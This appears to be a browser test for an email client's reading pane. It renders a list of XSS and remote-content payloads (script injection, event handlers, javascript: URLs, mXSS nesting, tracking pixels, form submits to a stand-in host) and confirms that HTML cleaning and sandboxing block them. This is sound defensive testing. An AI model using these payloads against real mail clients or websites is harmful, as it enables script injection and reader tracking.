import PostalMime from 'postal-mime';
import type { Browser, Page } from 'playwright-core';
import { FRAME_SANDBOX, frameDocument } from '../src/client-v2/reading/frame-document';
import { cleanReceivedHtml } from '../src/server/messages/clean-html';
import { publicData, publicFiles } from '../tests/support/corpora';
import { check } from './check';
import type { Outside } from './outside';

const PRIVACY_TESTER = 'tempo-email-parser/src/tests/remoteContent/email-privacy-tester.eml';
const AT_ONCE = 50;
const PATIENCE_MS = 10_000;
const SETTLE_MS = 150;

/** A message reaches the page from any origin; a property of it would not. */
const RUN = "top.postMessage('ran','*')";
/** Every way out that we know: each would run a script, ask the network for something, or leave the page. */
const ATTEMPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src="data:," onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<math><mtext></p><script>${RUN}</script></mtext></math>`,
  `</body></html><script>${RUN}</script>`,
  `<meta http-equiv="refresh" content="0;url=http://out.test/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${RUN}</script>`,
  `<script>top.location='http://out.test/top'</script>`,
  `<script>window.open('http://out.test/popup')</script>`,
  `<script src="http://out.test/script.js"></script>`,
  '<img src="http://out.test/pixel.gif">',
  '<img srcset="http://out.test/srcset.png 1x">',
  '<picture><source srcset="http://out.test/source.png"><img src="data:,"></picture>',
  '<link rel="stylesheet" href="http://out.test/style.css">',
  '<style>@import url(http://out.test/import.css);</style>',
  '<style>@font-face{font-family:f;src:url(http://out.test/font.woff)}body{font-family:f}</style>x',
  '<div style="background:url(http://out.test/background.png)">x</div>',
  '<style>body{background:url(http://out.test/body.png)}li{list-style-image:url(http://out.test/li.png)}</style><li>x',
  '<video src="http://out.test/video.mp4" poster="http://out.test/poster.png" autoplay></video>',
  '<audio src="http://out.test/audio.mp3" autoplay></audio>',
  '<object data="http://out.test/object"></object>',
  '<embed src="http://out.test/embed">',
  '<iframe src="http://out.test/frame"></iframe>',
  '<form id="f" action="http://out.test/form"><input name="a"></form><script>f.submit()</script>',
  '<base href="http://out.test/"><img src="relative.png">',
  '<svg><image href="http://out.test/svg.png"></image><use href="http://out.test/use.svg#a"></use></svg>',
  '<table background="http://out.test/table.png"><tr><td background="http://out.test/td.png">x</td></tr></table>',
  '<input type="image" src="http://out.test/input.png">',
];

/** Shows hostile HTML in the frame of the reading pane: as the server cleans it, and with the cleaning left out. */
export async function hostileMail(stage: Stage): Promise<void> {
  const harmless = ATTEMPTS.filter((mail) => !/top\.location|window\.open/.test(mail));
  for (const [name, sandbox] of [
    ['without a sandbox', null],
    ['in a sandbox that allows scripts', `${FRAME_SANDBOX} allow-scripts`],
  ] as const) {
    const control = await show(stage, harmless, sandbox);
    check(
      control.ran > 5 && control.requests.size > 15,
      `hostile mail: ${name} and without a policy these attempts succeed (${control.ran} scripts, ${control.requests.size} requests)`,
    );
  }
  const mails = [...ATTEMPTS, ...(await publicMails())];
  for (const [name, clean] of [
    ['cleaned', cleanReceivedHtml],
    // Chromium opens connections ahead, before any policy is asked, for <link> and for a frame that it then blocks. No
    // request follows, but a name is looked up: these two are the cleaning's alone.
    ['not cleaned', (html: string) => html.replace(/<(link|i?frame)\b/gi, '<x-$1')],
  ] as const) {
    const documents = mails.map((mail) =>
      frameDocument({ html: clean(mail), inlineImages: {}, showsRemoteImages: false }),
    );
    const { ran, requests, left } = await show(stage, documents, FRAME_SANDBOX);
    check(
      ran === 0 && requests.size === 0 && left.length === 0,
      `hostile mail, ${name}: of ${mails.length} mails none runs, asks the network or leaves (${ran}, ${[...requests, ...left].join(' ')})`,
    );
  }
  const shown = ['<img src="http://out.test/wanted.png">'].map((html) =>
    frameDocument({ html: cleanReceivedHtml(html), inlineImages: {}, showsRemoteImages: true }),
  );
  const asked = await show(stage, shown, FRAME_SANDBOX);
  check(asked.requests.has('http://out.test/wanted.png'), 'hostile mail: a picture is fetched once the reader asked');
}

export interface Stage {
  readonly browser: Browser;
  readonly outside: Outside;
}

interface Seen {
  readonly ran: number;
  /** What the frames asked the network for; nothing leaves this computer. */
  readonly requests: ReadonlySet<string>;
  /** Pages that were opened or left, and dialogs. */
  readonly left: readonly string[];
}

async function show({ browser, outside }: Stage, documents: readonly string[], sandbox: string | null): Promise<Seen> {
  const context = await browser.newContext();
  const left: string[] = [];
  const page = await context.newPage();
  // A page of the browser itself, so that nothing but the mails can ask for anything.
  await page.setContent('<!doctype html><body></body>');
  await page.evaluate(() => {
    const counter = window as { mailRan?: number };
    window.addEventListener('message', () => (counter.mailRan = (counter.mailRan ?? 0) + 1));
  });
  const home = page.url();
  outside.take();
  context.on('page', (opened) => left.push(`opened ${opened.url()}`));
  page.on('dialog', (dialog) => {
    left.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  for (let at = 0; at < documents.length; at += AT_ONCE)
    await showSome(page, documents.slice(at, at + AT_ONCE), sandbox);
  if (page.url() !== home) left.push(`left for ${page.url()}`);
  const ran = await page.evaluate(() => (window as { mailRan?: number }).mailRan ?? 0);
  await context.close();
  return { ran, requests: new Set(outside.take()), left };
}

/** Shows some mails at once and waits until every frame has loaded; some go on a moment longer. */
async function showSome(page: Page, documents: readonly string[], sandbox: string | null): Promise<void> {
  await page.evaluate(
    ({ sources, policy, patienceMs }) => {
      const frames = sources.map((source) => {
        const frame = document.createElement('iframe');
        if (policy !== null) frame.setAttribute('sandbox', policy);
        const loaded = new Promise<void>((resolve) => {
          frame.addEventListener('load', () => resolve());
          // One that keeps loading (a video without end) must not keep the others.
          setTimeout(resolve, patienceMs);
        });
        frame.srcdoc = source;
        return { frame, loaded };
      });
      document.body.replaceChildren(...frames.map(({ frame }) => frame));
      return Promise.all(frames.map(({ loaded }) => loaded)).then(() => undefined);
    },
    { sources: [...documents], policy: sandbox, patienceMs: PATIENCE_MS },
  );
  await page.waitForTimeout(SETTLE_MS);
}

/** HTML that others collected to break sanitizers and readers. */
async function publicMails(): Promise<string[]> {
  const packs = publicFiles('_cases').filter((file) => /html-[^/]*\.json$/.test(file));
  const inputs = packs.flatMap((file) => {
    const pack = JSON.parse(String(publicData(file, file))) as { cases: { input?: unknown }[] };
    return pack.cases.map(({ input }) => input).filter((input): input is string => typeof input === 'string');
  });
  const tester = publicData(PRIVACY_TESTER, 'public hostile HTML');
  const { html } = tester ? await PostalMime.parse(tester) : {};
  return html ? [...inputs, html] : inputs;
}
